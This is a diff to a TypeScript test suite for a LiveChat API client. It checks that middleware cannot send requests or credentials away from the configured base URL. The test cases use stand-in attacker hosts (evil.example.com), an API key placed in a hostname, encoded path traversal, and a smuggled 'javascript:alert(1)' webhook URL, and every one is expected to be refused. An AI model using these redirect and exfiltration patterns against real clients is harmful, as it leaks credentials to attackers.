@@ -1,11 +1,13 @@
 // No way around the client's guarantees through the raw client: per-call options that would
 // skip the transport or the encoders are refused, a per-call base URL and whatever middleware
 // sends are held to the baseUrl rules, and an empty array never goes out as an empty form.
+import { inspect } from "node:util";
+import { http } from "msw";
 import { describe, expect, test, vi } from "vitest";
 import { LiveChatInputError } from "../../src/index.js";
 import { createLiveChatRawClient, PlainRequest } from "../../src/raw/index.js";
-import { API_KEY, BASIC, LOGIN } from "../helpers/fixtures.js";
-import { allowContractViolations, answer, answerJson, BASE, HttpResponse, sent, useWire } from "../helpers/wire.js";
+import { API_KEY, BASIC, LOGIN, TOKEN } from "../helpers/fixtures.js";
+import { allowContractViolations, answer, answerJson, BASE, HttpResponse, sent, server, useWire } from "../helpers/wire.js";
 
 useWire();
 
@@ -86,11 +88,14 @@ describe("per-call options that would go around the client", () => {
   });
 
   test.each([
-    ["http://evil.example/tags", "The request URL must use https:// (plain http is allowed only for loopback hosts: localhost, [::1] and 127.0.0.0/8 such as 127.0.0.1); got http://evil.example."],
+    ["http://evil.example/tags", "Middleware sent the request to http://evil.example, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+    ["http://api.livechatinc.com/tags", "Middleware sent the request to http://api.livechatinc.com, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+    ["https://api.livechatinc.com:8443/tags", "Middleware sent the request to https://api.livechatinc.com:8443, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
     ["https://user:pw@api.livechatinc.com/tags", "The request URL must not carry credentials; the client sends them as the auth option says."],
-    ["/tags", 'The request URL "/tags" is not an absolute URL.'],
-    ["ftp://api.livechatinc.com/tags", "The request URL must be an https:// URL; got ftp://api.livechatinc.com."],
-  ])("middleware that sends the request to %s is held to the baseUrl rules", async (url, message) => {
+    ["/tags", "Middleware returned a request whose URL is not absolute; return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+    ["data:text/plain,tags", "Middleware sent the request to data:, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+    ["ftp://api.livechatinc.com/tags", "Middleware sent the request to ftp://api.livechatinc.com, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/."],
+  ])("middleware that sends the request to %s is refused", async (url, message) => {
     answerJson([]);
     const client = raw();
     client.use({ onRequest: ({ request }) => new PlainRequest(url, request) });
@@ -102,6 +107,96 @@ describe("per-call options that would go around the client", () => {
     await refused(() => untyped().GET!("/tags", "group=1" as never), "A raw call's second argument must be an object such as { params, body }.");
     await untyped().GET!("/tags", null as never);
     expect(sent).toHaveLength(1);
+  });
+});
+
+// Nothing a user passes can send the call elsewhere: what middleware returns keeps the origin
+// and base path of the call's base URL (the client's, or the call's own), or nothing is sent.
+describe("what middleware returns keeps the call's origin and base path", () => {
+  const evil = () => {
+    const reached: string[] = [];
+    server.use(
+      http.all("https://evil.example.com/*", ({ request }) => {
+        reached.push(`${request.method} ${request.url} ${request.headers.get("authorization")}`);
+        return HttpResponse.json([]);
+      }),
+    );
+    return reached;
+  };
+
+  test("a request moved to another host is refused before the token leaves, and the error holds no secret", async () => {
+    const reached = evil();
+    const client = createLiveChatRawClient({ auth: { accessToken: TOKEN }, baseUrl: "http://127.0.0.1:8787", maxRetries: 0 });
+    client.use({ onRequest: ({ request }) => new PlainRequest("https://evil.example.com/tags", request) });
+    const error = await client.GET("/tags").catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(LiveChatInputError);
+    expect((error as Error).message).toBe(
+      "Middleware sent the request to https://evil.example.com, not to the call's base URL http://127.0.0.1:8787: credentials go only to the API's origin. Return a PlainRequest whose URL starts with http://127.0.0.1:8787/.",
+    );
+    expect(reached).toEqual([]);
+    expect(sent).toHaveLength(0);
+    for (const text of [String(error), JSON.stringify(error), inspect(error), inspect(error, { showHidden: true, depth: null })]) {
+      expect(text).not.toContain("SECRET-oauth-token");
+    }
+  });
+
+  test.each([
+    ["the client's origin, from a call with its own baseUrl", "https://proxy.example.com/livechat", "https://api.livechatinc.com/tags",
+      "Middleware sent the request to https://api.livechatinc.com, not to the call's base URL https://proxy.example.com/livechat: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://proxy.example.com/livechat/."],
+    ["out of the call's base path", `${BASE}/proxy`, `${BASE}/tags`,
+      "Middleware sent the request to /tags, outside the call's base URL https://api.livechatinc.com/proxy; return a PlainRequest whose URL starts with https://api.livechatinc.com/proxy/."],
+    ["out of the call's base path by a dot segment", `${BASE}/proxy`, `${BASE}/proxy/../tags`,
+      "Middleware sent the request to /tags, outside the call's base URL https://api.livechatinc.com/proxy; return a PlainRequest whose URL starts with https://api.livechatinc.com/proxy/."],
+    ["out of the call's base path by an encoded dot segment", `${BASE}/proxy`, `${BASE}/proxy/%2e%2e/tags`,
+      "Middleware sent the request to /tags, outside the call's base URL https://api.livechatinc.com/proxy; return a PlainRequest whose URL starts with https://api.livechatinc.com/proxy/."],
+  ])("a call with a per-call baseUrl, sent by middleware to %s, is refused", async (_, baseUrl, url, message) => {
+    const reached = evil();
+    answerJson([]);
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(url, request) });
+    await refused(() => client.GET("/tags", { baseUrl }), message);
+    expect(reached).toEqual([]);
+  });
+
+  test("an extra path segment after the base URL is another endpoint, refused", async () => {
+    answerJson([]);
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(`${BASE}/v3/tags`, request) });
+    await refused(
+      () => client.GET("/tags"),
+      "Middleware turned the request into GET /v3/tags, which is not an operation of the API; return a PlainRequest for one of PUT /chats/{chat_id}/tags, GET /tags, POST /tags, DELETE /tags/{tag}, PUT /tickets/{ticket_id}/tags, GET /webhooks, POST /webhooks, DELETE /webhooks/{webhook_id}.",
+    );
+  });
+
+  test("a secret that middleware writes into the URL is scrubbed from the error", async () => {
+    answerJson([]);
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(`https://${API_KEY}.evil.example.com/tags`, request) });
+    await refused(
+      () => client.GET("/tags"),
+      "Middleware sent the request to https://[REDACTED].evil.example.com, not to the call's base URL https://api.livechatinc.com: credentials go only to the API's origin. Return a PlainRequest whose URL starts with https://api.livechatinc.com/.",
+    );
+    const other = raw();
+    other.use({ onRequest: ({ request }) => new PlainRequest(`${BASE}/${API_KEY}/tags`, request) });
+    const error = await other.GET("/tags").catch((e: unknown) => e);
+    expect((error as Error).message).toMatch(/^Middleware turned the request into GET \/\[REDACTED\]\/tags, which is not an operation of the API;/);
+    expect(sent).toHaveLength(0);
+  });
+
+  test("middleware that keeps the call's base URL sends there, with the credentials", async () => {
+    allowContractViolations(); // the contract check knows the spec's base URL only
+    answerJson([]);
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(`${request.url}?group=2`, request) });
+    await client.GET("/tags", { baseUrl: `${BASE}/proxy/` });
+    const under = createLiveChatRawClient({ auth: { login: LOGIN, apiKey: API_KEY }, baseUrl: `${BASE}/proxy` });
+    // The same origin written another way (case, the default port) is the same origin: compared parsed, not as text.
+    under.use({ onRequest: ({ request }) => new PlainRequest(request.url.replace(BASE, "HTTPS://API.LiveChatInc.com:443"), request) });
+    await under.GET("/tags");
+    expect(sent.map((s) => [s.method, s.url, s.headers.authorization])).toEqual([
+      ["GET", `${BASE}/proxy/tags?group=2`, BASIC],
+      ["GET", `${BASE}/proxy/tags`, BASIC],
+    ]);
   });
 });
 
@@ -125,6 +220,7 @@ describe("an empty array in a form body", () => {
 
 describe("what middleware sends is still one of the spec's operations", () => {
   test.each([
+    ["no body at all", null],
     ["an empty body", ""],
     ["a body without tag[]", "tag=sales"],
     ["an empty tag", "tag[]=sales&tag[]="],
@@ -184,7 +280,8 @@ describe("a non-2xx answer, which becomes `error`", () => {
   test("is scrubbed as the parsed JSON the caller gets, so escapes in the JSON text (as PHP writes them) hide nothing", async () => {
     // PHP's json_encode escapes "/" as "\/" and non-ASCII as "\uXXXX": the secrets are not in the text as such.
     const php = (text: string) => JSON.stringify(text).replace(/\//g, "\\/").replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
-    const apiKey = "????key/clé-secrète";
+    // (An API key is visible ASCII, refused otherwise; the "\/" escape is what can hide it.)
+    const apiKey = "????key/secret-k3y";
     answer(({ request }) => new HttpResponse(`{"error":${php(`Invalid credentials ${request.headers.get("authorization")} (key ${apiKey})`)}}`, { status: 401, headers: { "Content-Type": "application/json" } }));
     const client = createLiveChatRawClient({ auth: { login: "a", apiKey }, maxRetries: 0 });
     const { error } = await client.GET("/tags");
@@ -203,5 +300,36 @@ describe("a non-2xx answer, which becomes `error`", () => {
     expect(response.headers.get("x-echo")).toBe("Basic [REDACTED]");
     expect(response.headers.get("set-cookie")).toBe("[REDACTED]");
     expect(JSON.stringify(error) + [...response.headers].join()).not.toContain(API_KEY);
+  });
+});
+
+describe("a webhook sent through the raw client passes the checks webhooks.create makes", () => {
+  const hook = (body: Record<string, unknown>) => () => untyped().POST("/webhooks", { body });
+  test.each<[string, Record<string, unknown>, string]>([
+    ["a data type the event does not send", { event_type: "chat_started", "data_types[]": ["ticket"], url: "https://example.com/h" },
+      'data_types cannot include "ticket" with chat_started; pass some of: chat, visitor, pre_chat_survey.'],
+    ["an unknown event type", { event_type: "chat_closed", "data_types[]": ["chat"], url: "https://example.com/h" },
+      "event_type must be one of chat_started, chat_ended, chat_changed, visitor_queued, ticket_created, canned_response_changed."],
+    ["an ftp url", { event_type: "chat_ended", "data_types[]": ["chat"], url: "ftp://example.com/h" },
+      "url must be an http:// or https:// URL (LiveChat POSTs each event to it), such as https://example.com/livechat-webhook."],
+    ["a password WHATWG reads as host ss", { event_type: "chat_ended", "data_types[]": ["chat"], url: "https://livechat:p@ss/w0rd@example.com/h" },
+      "url has an @ after its host while a : comes before it, which URL parsers read as a host, a port or a password ending early (https://u:p@ss/w0rd@example.com goes to host ss); write a password's @, /, ?, # as %40, %2F, %3F, %23, and an @ in the path as %40."],
+    ["no url", { event_type: "chat_ended", "data_types[]": ["chat"] }, "url must be an absolute URL, such as https://example.com/livechat-webhook."],
+  ])("%s is refused before sending", async (_, body, message) => {
+    answerJson({ events: [] });
+    await refused(hook(body), message);
+  });
+
+  test("a valid one is sent as written; middleware that changes its url to a refused one is refused", async () => {
+    answerJson({ events: [] });
+    await untyped().POST("/webhooks", { body: { event_type: "chat_ended", "data_types[]": ["chat", "visitor"], url: "https://livechat:p%40ss@example.com/h" } });
+    expect(sent.map((s) => s.body)).toEqual(["event_type=chat_ended&data_types[]=chat&data_types[]=visitor&url=https%3A%2F%2Flivechat%3Ap%2540ss%40example.com%2Fh"]);
+    sent.length = 0;
+    const client = raw();
+    client.use({ onRequest: ({ request }) => new PlainRequest(request, { body: "event_type=chat_ended&data_types%5B%5D=chat&url=javascript%3Aalert(1)" }) });
+    const error = await client.POST("/webhooks", { body: { event_type: "chat_ended", "data_types[]": ["chat"], url: "https://example.com/h" } }).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(LiveChatInputError);
+    expect((error as Error).message).toBe("url must be an http:// or https:// URL (LiveChat POSTs each event to it), such as https://example.com/livechat-webhook.");
+    expect(sent).toHaveLength(0);
   });
 });
